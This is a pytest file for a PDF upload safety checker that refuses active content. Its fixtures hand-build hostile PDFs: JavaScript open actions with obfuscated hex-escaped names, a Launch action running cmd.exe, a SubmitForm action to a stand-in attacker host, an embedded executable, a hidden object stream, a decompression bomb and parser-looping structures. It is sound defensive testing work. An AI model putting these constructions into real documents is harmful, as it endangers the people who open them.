"""gongkai.pdfsafety: the stamped scan (盖章件) is refused if it carries anything active.

The hostile PDFs are written here byte by byte, with correct cross-reference tables (classic
or, for object streams, a compressed xref stream), so each one is a file a reader opens and
the refusal is for its content, not for being broken.
"""

from __future__ import annotations

import hashlib
import io
import os
import random
import struct
import zlib
from collections.abc import Collection

import pytest
from pdfminer.arcfour import Arcfour
from PIL import Image

from conftest import SAMPLES
from gongkai.pdfsafety import stamped_pdf_problem

REFUSED = "出于安全考虑已拒绝"


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def build(
    objects: dict[int, bytes],
    *,
    compressed: Collection[int] = (),
    trailer: bytes = b"",
    unlisted: bytes = b"",
    header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
) -> bytes:
    """A PDF of ``objects`` (number → body), object 1 the catalog. Those in ``compressed``
    go into one Flate object stream, and then the table is a compressed xref stream;
    ``unlisted`` is written into the body but left out of every table."""
    out = bytearray(header)
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        if number not in compressed:
            offsets[number] = len(out)
            out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    out += unlisted
    if not compressed:
        size = max(objects) + 1
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
        out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, xref)
        return bytes(out)

    objstm, xref_number = max(objects) + 1, max(objects) + 2
    members = sorted(compressed)
    bodies, index, pos = [], [], 0
    for number in members:
        index.append(b"%d %d" % (number, pos))
        bodies.append(objects[number])
        pos += len(objects[number]) + 1
    head = b" ".join(index) + b"\n"
    packed = zlib.compress(head + b"\n".join(bodies))
    offsets[objstm] = len(out)
    out += b"%d 0 obj\n" % objstm
    out += stream(packed, b" /Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(members), len(head)))
    out += b"\nendobj\n"

    size = xref_number + 1
    offsets[xref_number] = len(out)
    rows = bytearray(b"\x00\x00\x00\x00\x00\xff\xff")
    for number in range(1, size):
        if number in offsets:
            rows += b"\x01" + struct.pack(">IH", offsets[number], 0)
        elif number in compressed:
            rows += b"\x02" + struct.pack(">IH", objstm, members.index(number))
        else:
            rows += b"\x00\x00\x00\x00\x00\xff\xff"
    out += b"%d 0 obj\n" % xref_number
    out += stream(
        zlib.compress(bytes(rows)),
        b" /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode%s" % (size, trailer),
    )
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def document(
    catalog: bytes = b"",
    page: bytes = b"",
    extra: dict[int, bytes] | None = None,
    **options,
) -> bytes:
    """One A4 page with a line on it; ``catalog`` and ``page`` are added to those
    dictionaries, ``extra`` objects start at 5."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R" + catalog + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R" + page + b" >>",
        4: stream(b"0.5 w 72 720 m 520 720 l S"),
    }
    objects.update(extra or {})
    return build(objects, **options)


def scan_pdf(width: int = 1240, height: int = 1754, noise: bool = False, pages: int = 1) -> bytes:
    """A scan as a scanner app saves it: JPEG pages (Pillow writes DCTDecode images)."""
    if noise:
        images = [
            Image.frombytes("RGB", (width, height), os.urandom(width * height * 3)) for _ in range(pages)
        ]
    else:
        images = [Image.new("RGB", (width, height), (250, 250, 245)) for _ in range(pages)]
    buf = io.BytesIO()
    images[0].save(buf, "PDF", resolution=150, quality=90, save_all=True, append_images=images[1:])
    return buf.getvalue()


ALERT = b"(app.alert\\(1\\))"


def refused(data: bytes, filename: str = "盖章件扫描.pdf") -> str:
    problem = stamped_pdf_problem(data, filename)
    assert problem is not None, "should have been refused"
    assert filename in problem
    return problem


# --- accepted ------------------------------------------------------------------------


def test_plain_hand_made_pdf_is_accepted():
    assert stamped_pdf_problem(document(), "报告.pdf") is None


def test_pdf_with_compressed_object_stream_is_accepted():
    assert stamped_pdf_problem(document(compressed={1, 2, 3}), "报告.pdf") is None


def test_scan_saved_by_pillow_is_accepted():
    assert stamped_pdf_problem(scan_pdf(pages=3), "扫描.pdf") is None


def test_links_and_outline_are_accepted():
    link = b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /S /URI /URI (https://www.gov.cn/) >> >>"
    goto = b"<< /Type /Annot /Subtype /Link /Rect [72 600 200 620] /Dest [3 0 R /Fit] >>"
    remote = b"<< /Type /Annot /Subtype /Link /Rect [72 500 200 520] /A << /S /GoToR /F (annex.pdf) /D [0 /Fit] >> >>"
    data = document(
        catalog=b" /OpenAction [3 0 R /Fit] /PageMode /UseOutlines",
        page=b" /Annots [5 0 R 6 0 R 7 0 R]",
        extra={5: link, 6: goto, 7: remote},
    )
    assert stamped_pdf_problem(data, "报告.pdf") is None


def test_header_may_follow_some_bytes():
    # Readers look for %PDF- in the first 1024 bytes; some mail gateways prepend a line.
    assert stamped_pdf_problem(document(header=b"X-Junk: 1\r\n%PDF-1.4\n"), "报告.pdf") is None


def test_libreoffice_pdf_is_accepted(soffice, tmp_path):
    pdf = soffice(SAMPLES / "dayu-2025.docx", tmp_path)
    assert stamped_pdf_problem(pdf.read_bytes(), pdf.name) is None


# --- active content ------------------------------------------------------------------

JS_ACTION = b"<< /Type /Action /S /JavaScript /JS " + ALERT + b" >>"

HOSTILE = {
    "open-action-javascript": (document(catalog=b" /OpenAction " + JS_ACTION), "脚本（JavaScript）"),
    "page-additional-action": (
        document(page=b" /AA << /O << /S /JavaScript /JS 5 0 R >> >>", extra={5: stream(b"app.alert(1)")}),
        "脚本（JavaScript）",
    ),
    "document-additional-action": (
        document(catalog=b" /AA << /WC 5 0 R >>", extra={5: JS_ACTION}),
        "脚本（JavaScript）",
    ),
    "names-javascript-tree": (
        document(
            catalog=b" /Names << /JavaScript 5 0 R >>",
            extra={5: b"<< /Names [(init) 6 0 R] >>", 6: JS_ACTION},
        ),
        "脚本（JavaScript）",
    ),
    "form-field-additional-action": (
        document(
            catalog=b" /AcroForm << /Fields [5 0 R] >>",
            page=b" /Annots [5 0 R]",
            extra={
                5: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (x) /Rect [0 0 10 10] /P 3 0 R "
                b"/AA << /K << /S /JavaScript /JS " + ALERT + b" >> >> >>"
            },
        ),
        "脚本（JavaScript）",
    ),
    "javascript-link": (
        document(
            page=b" /Annots [5 0 R]",
            extra={
                5: b"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI ( JavaScript:app.alert\\(1\\)) >> >>"
            },
        ),
        "脚本（JavaScript）",
    ),
    "launch": (
        document(catalog=b" /OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
        "启动外部程序的动作（Launch）",
    ),
    "submit-form": (
        document(catalog=b" /OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>"),
        "SubmitForm",
    ),
    "import-data": (document(catalog=b" /OpenAction << /S /ImportData /F (data.fdf) >>"), "ImportData"),
    "hex-escaped-names": (
        document(catalog=b" /OpenAction << /S /J#61va#53cript /J#53 " + ALERT + b" >>"),
        "脚本（JavaScript）",
    ),
    "hex-escaped-lowercase-key": (
        document(catalog=b" /OpenAction << /S /GoTo /#4a#53 " + ALERT + b" >>"),
        "JavaScript",
    ),
    "javascript-in-object-stream": (
        document(catalog=b" /OpenAction 5 0 R", extra={5: JS_ACTION}, compressed={5}),
        "脚本（JavaScript）",
    ),
    "escaped-javascript-in-object-stream": (
        document(
            catalog=b" /Names << /J#61vaScript << /Names [(a) 5 0 R] >> >>",
            extra={5: b"<< /S /JavaScr#69pt /JS " + ALERT + b" >>"},
            compressed={1, 2, 3, 5},
        ),
        "脚本（JavaScript）",
    ),
    "embedded-file": (
        document(
            catalog=b" /Names << /EmbeddedFiles << /Names [(invoice.exe) 5 0 R] >> >>",
            extra={5: b"<< /Type /Filespec /F (invoice.exe) /EF << /F 6 0 R >> >>", 6: stream(b"MZ\x90\x00")},
        ),
        "嵌入的附件（EmbeddedFile）",
    ),
    "file-attachment-annotation": (
        document(
            page=b" /Annots [5 0 R]",
            extra={
                5: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a.docm) /EF << /F 6 0 R >> >> >>",
                6: stream(b"PK\x03\x04", b" /Type /EmbeddedFile"),
            },
        ),
        "嵌入的附件（EmbeddedFile）",
    ),
    "rich-media": (
        document(
            page=b" /Annots [5 0 R]",
            extra={
                5: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets << >> >> >>"
            },
        ),
        "富媒体内容（RichMedia）",
    ),
    "xfa-form": (
        document(catalog=b" /AcroForm << /Fields [] /XFA 5 0 R >>", extra={5: stream(b"<xdp:xdp/>")}),
        "动态表单（XFA）",
    ),
    "hidden-object-stream": (
        # An object stream no table lists, so a conforming reader ignores it but one that
        # repairs the file would find it: it is refused as well.
        document(
            unlisted=b"9 0 obj\n"
            + stream(
                zlib.compress(b"10 0\n" + JS_ACTION), b" /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode"
            )
            + b"\nendobj\n"
        ),
        "脚本（JavaScript）",
    ),
}


@pytest.mark.parametrize("case", HOSTILE, ids=list(HOSTILE))
def test_active_content_is_refused(case):
    data, what = HOSTILE[case]
    problem = refused(data, "单位盖章件.pdf")
    assert what in problem and REFUSED in problem
    assert problem.endswith("请用扫描仪或打印为 PDF 重新生成后上传。")


def test_message_reads_as_a_sentence():
    data, _ = HOSTILE["open-action-javascript"]
    assert stamped_pdf_problem(data, "X.pdf") == (
        "盖章件 X.pdf 含有脚本（JavaScript），出于安全考虑已拒绝。请用扫描仪或打印为 PDF 重新生成后上传。"
    )


def test_every_kind_found_is_listed():
    data = document(
        catalog=b" /OpenAction << /S /Launch /F (x.exe) >> /Names << /JavaScript << /Names [(a) 5 0 R] >> >>",
        extra={5: JS_ACTION},
    )
    assert "含有脚本（JavaScript）、启动外部程序的动作（Launch），" in refused(data)


def test_only_the_files_own_name_is_shown():
    data, _ = HOSTILE["launch"]
    problem = stamped_pdf_problem(data, "C:\\Users\\办公室\\扫描\u202e.pdf")
    assert problem is not None and problem.startswith("盖章件 扫描.pdf 含有")
    assert stamped_pdf_problem(b"", "").startswith("盖章件是空文件")


# --- not a PDF, or not one that can be checked ---------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        (SAMPLES / "dayu-2025.docx").read_bytes(),
        b"\xff\xd8\xff\xe0\x00\x10JFIF" + b"\x00" * 100,
        b"%PDF" + b"-1.4".rjust(2000),
        b" " * 1024 + b"%PDF-1.4\n",
    ],
    ids=["word-document", "jpeg", "broken-header", "header-too-late"],
)
def test_not_a_pdf_is_refused(data):
    assert "不是 PDF 文件" in refused(data, "盖章件.pdf")


def test_garbage_after_the_header_is_refused():
    data = b"%PDF-1.4\n" + random.Random(1).randbytes(50_000)
    assert "已损坏" in refused(data)


def test_truncated_pdf_is_refused():
    data = scan_pdf()
    assert "已损坏" in refused(data[: len(data) // 2])


def test_pdf_without_pages_is_refused():
    data = build({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"})
    assert "不含任何页面" in refused(data)


def _standard_security(owner_only: bool) -> bytes:
    """An RC4-40 /Encrypt dictionary; with ``owner_only`` the empty user password opens it
    (a "restrict printing" file), else the user password is unknown."""
    padding = b"(\xbfN^Nu\x8aAd\x00NV\xff\xfa\x01\x08..\x00\xb6\xd0h>\x80/\x0c\xa9\xfedSiz"
    owner, doc_id, permissions = b"\x11" * 32, b"\x22" * 16, -44
    key = hashlib.md5(padding + owner + struct.pack("<l", permissions) + doc_id).digest()[:5]
    user = Arcfour(key).encrypt(padding) if owner_only else b"\x33" * 32
    return b" /Encrypt << /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P %d >> /ID [<%s> <%s>]" % (
        owner.hex().encode(),
        user.hex().encode(),
        permissions,
        doc_id.hex().encode(),
        doc_id.hex().encode(),
    )


@pytest.mark.parametrize("owner_only", [False, True], ids=["password", "permissions-only"])
def test_encrypted_pdf_is_refused(owner_only):
    # Objects written in clear text under an /Encrypt would not decrypt, but the refusal
    # comes before anything is read from them.
    assert "加密" in refused(document(trailer=_standard_security(owner_only)))


def test_unknown_security_handler_is_refused():
    assert "加密" in refused(document(trailer=b" /Encrypt << /Filter /FOPN_foweb /V 1 >>"))


def test_size_limit():
    problem = stamped_pdf_problem(b"%PDF-1.4\n" + b"0" * 2_000_000, "大.pdf", max_bytes=1024 * 1024)
    assert problem is not None and "大.pdf 超过 1 MB" in problem


# --- hostile structure: bounded work, no loops ---------------------------------------


def _quick(data: bytes) -> str | None:
    # Returning at all is the point: pdfminer alone never returns on these files. No clock is
    # read (no timing asserts in tests); the bounds in the module make the work finite.
    return stamped_pdf_problem(data, "x.pdf")


def test_catalog_that_is_a_reference_to_itself():
    # pdfminer alone never returns on this file: it resolves the reference for ever.
    assert "不含任何页面" in _quick(build({1: b"1 0 R"}))


def test_references_in_a_loop():
    data = document(page=b" /Rotate 5 0 R", extra={5: b"6 0 R", 6: b"7 0 R", 7: b"5 0 R"})
    assert _quick(data) is None


def test_stream_length_that_refers_to_itself():
    data = document(extra={5: b"<< /Length 6 0 R >>\nstream\nabc\nendstream", 6: b"6 0 R"})
    assert _quick(data) is None


def test_page_tree_cycle():
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [5 0 R] /Count 1 >>",
        5: b"<< /Type /Pages /Kids [2 0 R 5 0 R] /Count 1 >>",
    }
    assert "不含任何页面" in _quick(build(objects))


def test_previous_table_cycle():
    data = document()
    xref = int(data.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    looped = data.replace(b"/Root 1 0 R >>", b"/Root 1 0 R /Prev %d >>" % xref)
    assert _quick(looped) is None


def test_object_stream_said_to_be_inside_itself():
    data = document(extra={5: JS_ACTION}, compressed={5})
    # Point the object stream's own entry (type 1) at itself as a compressed member.
    objstm = 6
    start = data.index(b"%d 0 obj\n" % (objstm + 1))
    table_start = data.index(b"stream\n", start) + 7
    table_end = data.index(b"\nendstream", table_start)
    rows = bytearray(zlib.decompress(data[table_start:table_end]))
    rows[objstm * 7 : objstm * 7 + 7] = b"\x02" + struct.pack(">IH", objstm, 0)
    packed = zlib.compress(bytes(rows))
    head = data[start:table_start].replace(
        b"/Length %d" % (table_end - table_start), b"/Length %d" % len(packed)
    )
    # pdfminer would recurse until Python gives up; the repairing view still finds the stream.
    assert "脚本（JavaScript）" in _quick(data[:start] + head + packed + data[table_end:])


def test_decompression_bomb_in_object_stream():
    bomb = zlib.compressobj(9)
    packed = b"".join(bomb.compress(b" " * (1 << 20)) for _ in range(64)) + bomb.flush()
    data = document(
        unlisted=b"9 0 obj\n"
        + stream(packed, b" /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
        + b"\nendobj\n"
    )
    assert "解压后异常庞大" in _quick(data)


def test_table_claiming_billions_of_entries():
    # Only the entries its data holds are read (pdfminer would count to two billion).
    data = document(compressed={3})
    huge = data.replace(b"/Type /XRef /Size", b"/Index [0 2000000000] /Type /XRef /Size")
    assert _quick(huge) is None


def test_deeply_nested_arrays():
    assert _quick(document(extra={5: b"[" * 100_000 + b"]" * 100_000})) is None


def test_parsing_is_bounded():
    # Tokens cost pdfminer some microseconds each: past the budget the file is refused.
    data = document(extra={5: b"[" + b"1 " * 600_000 + b"]"})
    assert "结构异常复杂" in _quick(data)


def test_many_objects_are_refused_not_walked_forever():
    body = b"".join(b"%d 0 obj\n<< /A [1 2 3] >>\nendobj\n" % n for n in range(10, 120_000))
    assert "结构异常复杂" in _quick(document(unlisted=body))


def test_mangled_pdfs_never_raise():
    # Whatever a damaged upload looks like, the answer is a sentence or None, never a traceback.
    rng = random.Random(7)
    originals = [
        document(),
        document(compressed={1, 2, 3}),
        HOSTILE["escaped-javascript-in-object-stream"][0],
    ]
    for _ in range(300):
        data = bytearray(rng.choice(originals))
        for _ in range(rng.randint(1, 8)):
            at = rng.randrange(len(data))
            if rng.random() < 0.5:
                data[at] = rng.randrange(256)
            else:
                del data[at : at + rng.randint(1, 40)]
        problem = stamped_pdf_problem(bytes(data), "x.pdf")
        assert problem is None or "x.pdf" in problem


# --- a scan of realistic size ------------------------------------------------------------


def test_five_megabyte_scan_is_accepted():
    # Random pixels do not compress: four pages of them make a file of about 5 MB, whose image
    # streams the check must pass over without decoding.
    data = scan_pdf(width=1000, height=1400, noise=True, pages=4)
    assert len(data) > 4_000_000
    assert stamped_pdf_problem(data, "扫描.pdf") is None
